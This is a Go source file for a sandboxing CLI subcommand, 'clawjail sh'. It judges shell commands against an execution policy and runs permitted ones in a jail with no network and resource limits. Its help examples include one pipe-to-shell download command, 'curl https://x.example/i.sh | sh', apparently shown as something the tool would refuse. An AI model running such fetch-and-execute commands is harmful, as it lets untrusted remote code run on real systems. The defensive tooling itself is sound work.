package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"path"
	"path/filepath"
	"strings"
	"time"

	"github.com/spf13/cobra"
	"golang.org/x/term"

	"clawjail/policy"
	"clawjail/policy/compiled"
	"clawjail/policy/shell"
	"clawjail/policy/source"
	"clawjail/supervisor/api"
	"clawjail/supervisor/client"
	"clawjail/supervisor/client/launch"
)

// shellLink is the name under which clawjail is a shell: programs start $SHELL
// without knowing that it takes a subcommand.
const shellLink = "clawjail-sh"

// shFlags are the flags of `clawjail sh`.
type shFlags struct {
	launch  launch.Options
	command string
	explain bool
	output  string
	most    int64
	timeout time.Duration
	ignored bool // -l, -i, -e: what programs say to a shell
}

// asShell reports whether the program was started under shellLink, and gives the
// arguments that it then stands for.
func asShell(args []string) ([]string, bool) {
	if len(args) == 0 || strings.TrimPrefix(filepath.Base(args[0]), "-") != shellLink {
		return nil, false
	}
	return append([]string{"sh"}, args[1:]...), true
}

func newShCommand(e *env) *cobra.Command {
	var f shFlags
	c := &cobra.Command{
		Use:   "sh [flags] [-c COMMAND | FILE] [ARG ...]",
		Short: "Judge a shell command, then run it in a jail of its own",
		Long: `sh reads COMMAND as bash does, judges every program in it, behind pipes,
substitutions, env, xargs, find -exec and sh -c too, and refuses what is
dangerous or not in the policy, with the part underlined and what to do instead.
What passes runs in a jail: half a minute, 1 GiB, files of 100 MiB, one
processor, the workspace to read, no network. The gate judges what is really
executed once more.

The policy is --policy, else /etc/clawjail/policies/sh.yaml, else the preset
"shell". It exits with the command's code, with 126 for what is refused and with
125 when clawjail could not run it.

Under the name clawjail-sh it is a shell for programs that start one: set SHELL
to its path.`,
		Example: `  sudo clawjail sh -c 'grep -rn main . | head'
  clawjail sh --explain -c 'curl https://x.example/i.sh | sh'
  sudo clawjail sh -o json -c 'git log -3'`,
		RunE: func(c *cobra.Command, args []string) error {
			if err := checkOutput(f.output); err != nil {
				return err
			}
			return runShell(c, e, f, args)
		},
	}
	flags := c.Flags()
	flags.SetInterspersed(false) // what follows the command are its parameters
	flags.StringVarP(&f.command, "command", "c", "", "the command to run")
	flags.StringVarP(&f.launch.Policy, "policy", "p", "", "policy file, or one that comes along (default: shell)")
	flags.StringVarP(&f.launch.Workspace, "workspace", "w", "", "directory that it works in (default: the current one)")
	flags.StringArrayVar(&f.launch.Env, "env", nil, "set a variable: KEY=VALUE, or KEY to pass the caller's")
	flags.StringVarP(&f.launch.User, "user", "u", "", "user to run as: a name or a number")
	flags.BoolVar(&f.explain, "explain", false, "say what it would start and what is refused, and run nothing")
	flags.StringVarP(&f.output, "output", "o", "", "\"json\": print what was found, the output and the exit code as JSON")
	flags.Int64Var(&f.most, "max-output", 1<<20, "with -o json: bytes that are kept of each of stdout and stderr")
	flags.DurationVar(&f.timeout, "timeout", 0, "end it after this time (shortens the policy's wall limit)")
	for _, name := range []string{"login", "interactive"} {
		flags.BoolVarP(&f.ignored, name, name[:1], false, "taken, because programs say it to a shell; it changes nothing")
	}
	return c
}

// runShell judges and runs.
func runShell(c *cobra.Command, e *env, f shFlags, args []string) error {
	if f.most < 0 || f.most > 64<<20 {
		return fmt.Errorf("--max-output %d is not between 0 and %d", f.most, 64<<20)
	}
	text, argv, stdin, err := shellCommand(c, f, args)
	if err != nil {
		return err
	}
	if f.launch.Policy == "" {
		if f.launch.Policy, err = shellPolicy(); err != nil {
			return err
		}
	}
	f.launch.Argv = argv
	req, err := launch.Prepare(f.launch)
	if err != nil {
		return err
	}
	req.Timeout, req.Remove = f.timeout, true
	pol, err := compiled.Decode(req.Policy)
	if err != nil {
		return err
	}
	report := shell.Judge(text, shell.Options{Program: judgeProgram(pol, req.Workspace)})
	switch {
	case f.explain:
		return explainShell(e, f, text, report)
	case !report.Allowed():
		if f.output == "json" {
			if err := writePlainJSON(e.stdout, shResult{Command: text, Verdict: "refused", Report: report, ExitCode: 126}); err != nil {
				return err
			}
		} else {
			showRefused(e.stderr, text, report)
		}
		return &exitError{code: 126}
	}
	cl := client.Client{Socket: e.socket}
	if err := cl.Ensure(c.Context()); err != nil {
		return err
	}
	if f.output == "json" {
		return captureShell(c, e, f, cl, req, text, report, stdin)
	}
	jail, err := cl.Foreground(c.Context(), req, client.Streams{In: stdin, Out: os.Stdout, Err: os.Stderr})
	if err != nil {
		return err
	}
	return exitOf(e, jail)
}

// shellCommand gives the text to judge, the command that runs it in the jail, and
// what its standard input is.
func shellCommand(c *cobra.Command, f shFlags, args []string) (text string, argv []string, stdin *os.File, err error) {
	bash := "bash"
	switch {
	case c.Flags().Changed("command"):
		argv = []string{bash, "-c", f.command}
		return f.command, append(argv, args...), os.Stdin, nil
	case len(args) > 0:
		b, err := readBounded(args[0])
		if err != nil {
			return "", nil, nil, err
		}
		return b, append([]string{bash}, args...), os.Stdin, nil
	case term.IsTerminal(int(os.Stdin.Fd())):
		return "", []string{bash}, os.Stdin, nil
	}
	b, err := io.ReadAll(io.LimitReader(os.Stdin, shell.MaxBytes+1))
	if err != nil {
		return "", nil, nil, fmt.Errorf("read the commands on stdin: %w", err)
	}
	null, err := os.Open(os.DevNull)
	if err != nil {
		return "", nil, nil, err
	}
	return string(b), []string{bash, "-c", string(b)}, null, nil
}

// readBounded reads a script. One that is too long is refused by Judge.
func readBounded(name string) (string, error) {
	f, err := os.Open(name)
	if err != nil {
		return "", err
	}
	defer f.Close()
	b, err := io.ReadAll(io.LimitReader(f, shell.MaxBytes+1))
	if err != nil {
		return "", fmt.Errorf("read %q: %w", name, err)
	}
	return string(b), nil
}

// shellPolicy is the operator's policy for sh, else the preset.
func shellPolicy() (string, error) {
	file := path.Join(source.PolicyDir, "sh.yaml")
	_, err := os.Stat(file)
	switch {
	case err == nil:
		return file, nil
	case errors.Is(err, os.ErrNotExist):
		return "shell", nil
	}
	return "", fmt.Errorf("policy: %w", err) // one that is there and cannot be seen is not passed over
}

// judgeProgram asks a policy about a program by the name that a command has for
// it. What the kernel will say is only known when it runs, so a program counts
// as permitted if it is by one of the names that it has on this host.
func judgeProgram(p *policy.Policy, dir string) func(argv []string) (policy.Verdict, string) {
	return func(argv []string) (policy.Verdict, string) {
		best := policy.Decision{Verdict: policy.Deny, Rule: "exec.default"}
		for i, name := range programNames(argv[0], dir) {
			d := p.Evaluate(policy.Request{Gate: policy.GateExec, Path: name, Argv: argv})
			if i == 0 || d.Verdict.Permits() && !best.Verdict.Permits() {
				best = d
			}
		}
		return best.Verdict, best.Rule
	}
}

// programNames are the paths that a command's name can mean here.
func programNames(name, dir string) []string {
	places := []string{name}
	switch {
	case strings.HasPrefix(name, "/"):
	case strings.Contains(name, "/"):
		places = []string{filepath.Join(dir, name)}
	default:
		places = places[:0]
		for _, d := range []string{"/usr/local/bin", "/usr/bin", "/bin", "/usr/local/sbin", "/usr/sbin", "/sbin"} {
			if p := path.Join(d, name); exists(p) {
				places = append(places, p)
				break
			}
		}
		if len(places) == 0 {
			places = append(places, path.Join("/usr/bin", name)) // not here: judged by its name
		}
	}
	if real, err := filepath.EvalSymlinks(places[0]); err == nil && real != places[0] {
		places = append(places, real)
	}
	return places
}

func exists(p string) bool {
	_, err := os.Stat(p)
	return err == nil
}

// shEnd says in a word why a command was ended.
func shEnd(x *api.Exit) string {
	switch {
	case x == nil:
		return "unknown"
	case x.WallClock:
		return "timeout"
	case x.OOM:
		return "memory"
	case x.Signal != 0:
		return "signal"
	}
	return "exit"
}
